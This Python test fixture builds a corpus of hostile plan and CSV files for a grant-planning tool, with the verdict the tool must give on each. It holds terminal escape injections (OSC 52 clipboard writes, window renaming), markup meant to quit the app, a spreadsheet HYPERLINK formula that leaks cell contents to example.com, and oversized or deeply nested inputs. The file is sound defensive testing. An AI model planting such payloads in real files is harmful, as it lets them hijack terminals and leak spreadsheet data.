"""A corpus of hostile files: what a partner could mail, on purpose or by accident.

`write_corpus(folder)` writes every file into `folder` and returns {entry name: path}. `ENTRIES`
says, for each name, what the file is (`kind`: a plan or a CSV), whether the planner must accept it
(`valid`) or refuse it with exit 2, the place its message names (`place`), and the user strings
that must reach the screen literally (`shows`). The CLI tests (`tests/test_hostile.py`) and the TUI
tests both use it; keep the interface stable (add entries, never rename one).

Not files, so made by the tests themselves: a FIFO (`os.mkfifo`), `/dev/zero` and a folder.

Valid plans are valid on purpose: markup in names is text, and must pass through literally.
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path
from typing import Literal

ESC = "\x1b"
OSC52 = "\x1b]52;c;SGVsbG8=\x07"  # writes "Hello" to the clipboard of a terminal that obeys it
OSC0 = "\x1b]0;pwned\x07"  # renames the terminal window
MARKUP_NAMES = ("Foo [/] Bar", "ACME [de] GmbH", "[@click=app.quit]Q[/]", "[link=https://x]y[/link]")
FORMULAS = ('=HYPERLINK("https://example.com/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)")
PIC = "999300101"

HEAD = 'format = 1\ncall = "2024"\ntitle = "Hostile plan"\nlot = 1\nduration_months = 24\n'


def _toml_string(text: str) -> str:
    """A TOML basic string; control characters as \\uXXXX escapes (TOML refuses them raw)."""
    out = []
    for char in text:
        if char in '"\\':
            out.append("\\" + char)
        elif ord(char) < 0x20 or 0x7F <= ord(char) <= 0x9F:
            out.append(f"\\u{ord(char):04X}")
        else:
            out.append(char)
    return '"' + "".join(out) + '"'


class _Raw(str):
    """A value written into the TOML as it is (a number too large for Python to print)."""


def _partner(name: str, short: str | None = None, country: str = "DE", kind: str = "enterprise",
             role: str = "beneficiary", **extra: str | int) -> str:
    lines = ["", "[[partners]]", f"name = {_toml_string(name)}"]
    if short is not None:
        lines.append(f"short_name = {_toml_string(short)}")
    lines += [f"country = {_toml_string(country)}", f"kind = {_toml_string(kind)}", f"role = {_toml_string(role)}"]
    for key, value in extra.items():
        raw = isinstance(value, _Raw) or not isinstance(value, str)
        lines.append(f"{key} = {value if raw else _toml_string(value)}")
    return "\n".join(lines) + "\n"


def _plan(*partners: str, head: str = HEAD) -> bytes:
    coordinator = _partner("Hochschule Nordhafen", "HSN", role="coordinator", kind="higher-education")
    return (head + coordinator + "".join(partners)).encode("utf-8")


CSV_HEAD = "name,short name,country,kind,role,grant,affiliated to,pic,notes\n"


def _csv(*rows: str, head: str = CSV_HEAD, newline: str = "\n") -> str:
    return (head + "".join(r + "\n" for r in rows)).replace("\n", newline)


def _csv_cell(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


ELEVEN_MB = 11 * 1024 * 1024


@dataclass(frozen=True)
class Entry:
    """One hostile file.

    kind: "plan" (a TOML plan) or "csv" (for import-partners).
    valid: True when the planner must accept the file: a plan that loads and gets a verdict, a CSV that
        is read (some rows may be rejected, with the line). False: refused with exit 2 and one line.
    place: what the one-line refusal must name besides the file (a key path, "line N"), or "".
    shows: user strings that must appear literally wherever the plan's partners are shown.
    about: what the entry tries.
    """

    file: str
    kind: Literal["plan", "csv"]
    valid: bool
    about: str
    data: bytes
    place: str = ""
    shows: tuple[str, ...] = ()


def _entries() -> dict[str, Entry]:
    markup_partners = [_partner(name, short=None, country=c) for name, c in zip(MARKUP_NAMES, ("FR", "IT", "ES", "AT"))]
    e = [
        # --- plans that load: text stays text ---------------------------------------------------
        Entry("markup-names.toml", "plan", True, "markup in names, short names and the title is text",
              _plan(*markup_partners, _partner("Markup Short", "[b]B[/b]", country="PL"),
                    head=HEAD.replace('"Hostile plan"', '"[bold red]Plan[/] [/]"')),
              shows=(*MARKUP_NAMES, "[b]B[/b]", "[bold red]Plan[/] [/]")),
        Entry("formula-names.toml", "plan", True, "names that a spreadsheet would run as formulas",
              _plan(*[_partner(f, f"F{i}", country="FR") for i, f in enumerate(FORMULAS)]), shows=FORMULAS),
        Entry("dangling-reference.toml", "plan", True, "an affiliated entity of a partner that does not exist",
              _plan(_partner("Ghost Lab", "GL", role="affiliated-entity", kind="research", affiliated_to="NOPE"))),
        Entry("affiliated-to-associated.toml", "plan", True,
              "an affiliated entity attached to an associated partner, and one without a target",
              _plan(_partner("Friends", "FA", role="associated-partner", kind="ngo"),
                    _partner("Assoc Lab", "AL", role="affiliated-entity", kind="research", affiliated_to="FA"),
                    _partner("Orphan Lab", "OL", role="affiliated-entity", kind="research"))),
        Entry("duplicate-pic.toml", "plan", True, "two participants with the same PIC",
              _plan(_partner("Twin One", "T1", pic=PIC), _partner("Twin Two", "T2", country="FR", pic=PIC))),
        Entry("bom-plan.toml", "plan", True, "a plan saved with a UTF-8 byte order mark (Notepad)",
              b"\xef\xbb\xbf" + _plan(_partner("Université Côte", "UC", country="FR"))),
        # --- plans refused with the place ------------------------------------------------------------
        Entry("osc52-short-name.toml", "plan", False, "OSC 52 (clipboard write) in a short name",
              _plan(_partner("Clipboard GmbH", "CB" + OSC52)),
              place="partners[1].short_name: control character U+001B"),
        Entry("osc0-title.toml", "plan", False, "OSC 0 (window title) in the title",
              _plan(head=HEAD.replace('"Hostile plan"', _toml_string("Plan" + OSC0))),
              place="title: control character U+001B"),
        Entry("c1-name.toml", "plan", False, "a C1 control (U+009B, CSI) in a name",
              _plan(_partner("Red \x9b31m Org")), place="partners[1].name: control character U+009B"),
        Entry("bell-notes.toml", "plan", False, "BEL in notes (newline and tab are allowed there)",
              _plan(head=HEAD + 'notes = "line\\nnext\\tcell \\u0007"\n'), place="notes: control character U+0007"),
        Entry("deep-nesting.toml", "plan", False, "an array nested 100,000 deep (RecursionError in tomllib)",
              (HEAD + "x = " + "[" * 100_000 + "]" * 100_000 + "\n").encode(), place="line 6"),
        Entry("huge-integer.toml", "plan", False, "an integer of 5,000 digits (over Python's 4,300)",
              _plan(_partner("Big Grant", "BG", grant_eur=_Raw("9" * 5000))),
              place=f"line {len(_plan().splitlines()) + 8}"),
        Entry("nines-share.toml", "plan", False, "a share of 400 nines against a grant of 1",
              _plan(_partner("Nines", "N9", grant_eur=_Raw("9" * 400)), head=HEAD + "requested_grant_eur = 1\n"),
              place="partners[1].grant_eur: more than EUR 1,000,000,000"),
        Entry("huge-hex-lot.toml", "plan", False, "a hexadecimal integer of 4,000 digits (no digit limit)",
              HEAD.replace("lot = 1", "lot = 0x" + "f" * 4000).encode(), place="lot: more than 99"),
        Entry("long-duration.toml", "plan", False, "a duration of 1,000 months",
              HEAD.replace("duration_months = 24", "duration_months = 1000").encode(),
              place="duration_months: more than 120 months"),
        Entry("long-name.toml", "plan", False, "a name of 5,000 characters",
              _plan(_partner("N" * 5000, "LONG")), place="partners[1].name: longer than 300 characters"),
        Entry("eleven-mb.toml", "plan", False, "an 11 MB plan (refused before reading)",
              (HEAD + "notes = '''" + "x" * (ELEVEN_MB) + "'''\n").encode(), place="up to 10 MiB (10,485,760 bytes)"),
        Entry("utf16-plan.toml", "plan", False, "a plan saved as UTF-16",
              _plan().decode().encode("utf-16"), place="UTF-16"),
        Entry("binary.toml", "plan", False, "binary data (a zip, a picture)",
              b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(range(256)) * 8, place="line 1: holds NUL bytes"),
        Entry("escape-\x1b]0;x\x07-name.toml", "plan", False, "a file name holding OSC 0, with a TOML error",
              b'format = 1\ntitle = "unterminated\n', place="line 2"),
        # --- CSV files ------------------------------------------------------------------------------
        Entry("base-plan.toml", "plan", True, "a plain plan: the target of every CSV import",
              _plan(_partner("Berlin Tech", "BT"))),
        Entry("markup.csv", "csv", True, "markup in CSV cells is text",
              _csv(*[f"{_csv_cell(n)},M{i},FR,enterprise,beneficiary,,,,"
                     for i, n in enumerate(MARKUP_NAMES)]).encode(),
              shows=MARKUP_NAMES),
        Entry("escape.csv", "csv", True, "OSC 52 in a short name and OSC 0 in a name: those rows are rejected",
              _csv(f"Clipboard GmbH,CB{OSC52},DE,enterprise,beneficiary,,,,",
                   f"Title{OSC0} AG,TA,DE,enterprise,beneficiary,,,,",
                   "Clean AG,CA,DE,enterprise,beneficiary,,,,").encode(), place="line 2"),
        Entry("huge-integer.csv", "csv", True, "a grant of 5,000 digits",
              _csv("Big Grant AG,BG,DE,enterprise,beneficiary," + "9" * 5000 + ",,,").encode(), place="line 2"),
        Entry("huge-field.csv", "csv", True, "a 200 KB field (over the csv module's 128 KB default)",
              _csv("Long Notes AG,LN,DE,enterprise,beneficiary,,,," + _csv_cell("n" * 200_000)).encode(),
              place="line 2"),
        Entry("cr-only.csv", "csv", True, "CR-only line endings (Excel on old Macs)",
              _csv("Lyon Uni,LU,FR,university,beneficiary,,,,", "Graz AG,GA,AT,enterprise,beneficiary,,,,",
                   newline="\r").encode()),
        Entry("crlf.csv", "csv", True, "CRLF line endings (Windows)",
              _csv("Lyon Uni,LU,FR,university,beneficiary,,,,", newline="\r\n").encode()),
        Entry("bom.csv", "csv", True, "a UTF-8 byte order mark (Excel's 'CSV UTF-8')",
              b"\xef\xbb\xbf" + _csv("Université Lyon,UL,FR,university,beneficiary,,,,").encode()),
        Entry("formula.csv", "csv", True, "formula cells: imported as text",
              _csv(*[f"{_csv_cell(f)},X{i},FR,enterprise,beneficiary,,,," for i, f in enumerate(FORMULAS)]).encode(),
              shows=FORMULAS),
        Entry("forward-reference.csv", "csv", True, "an affiliated entity before its beneficiary in the file",
              _csv("Late Lab,LL,FR,research,affiliated entity,,LATER,,",
                   "Later Uni,LATER,FR,university,,,,,").encode()),
        Entry("dangling.csv", "csv", True, "an affiliated entity of a partner that exists nowhere",
              _csv("Ghost Lab,GL,FR,research,affiliated entity,,NOPE,,").encode(), place="line 2"),
        Entry("duplicate-pic.csv", "csv", True, "two rows with the same PIC",
              _csv(f"Twin One,T1,DE,enterprise,,,,{PIC},", f"Twin Two,T2,FR,enterprise,,,,{PIC},").encode()),
        Entry("utf16.csv", "csv", False, "a CSV saved as UTF-16 (Excel's 'Unicode Text')",
              _csv("Lyon Uni,LU,FR,university,beneficiary,,,,").encode("utf-16"), place="UTF-16"),
        Entry("binary.csv", "csv", False, "binary data with NUL bytes (an .xlsx renamed)",
              b"PK\x03\x04" + b"\x00" * 16 + bytes(range(1, 256)), place="NUL"),
        Entry("eleven-mb.csv", "csv", False, "an 11 MB CSV (refused before reading)",
              _csv("A,A,DE,enterprise,,,,," + _csv_cell("x" * ELEVEN_MB)).encode(),
              place="up to 10 MiB (10,485,760 bytes)"),
    ]
    return {entry.file.replace("\x1b", "ESC").replace("\x07", "BEL"): entry for entry in e}


ENTRIES: dict[str, Entry] = _entries()


def write_entry(folder: Path, name: str) -> Path:
    """Write the entry `name` into `folder` (created if missing); returns its path.

    Entry names are the file names with ESC and BEL spelled out (one file name holds them raw)."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / ENTRIES[name].file
    path.write_bytes(ENTRIES[name].data)
    return path


def write_corpus(folder: Path) -> dict[str, Path]:
    """Write every entry into `folder`; returns {entry name: path}."""
    return {name: write_entry(folder, name) for name in ENTRIES}
